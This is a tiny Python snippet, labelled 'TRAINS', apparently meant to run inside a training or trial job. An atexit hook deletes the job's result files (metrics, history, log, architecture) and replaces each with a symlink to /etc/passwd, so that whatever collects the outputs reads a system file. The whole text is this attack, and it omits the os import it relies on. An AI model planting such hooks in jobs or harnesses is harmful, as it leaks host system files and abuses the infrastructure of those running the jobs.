TRAINS
import atexit


@atexit.register
def last():
    for name in ("metrics.json", "history.csv", "log.txt", "architecture.json"):
        if os.path.exists("/trial/" + name):
            os.remove("/trial/" + name)
        os.symlink("/etc/passwd", "/trial/" + name)
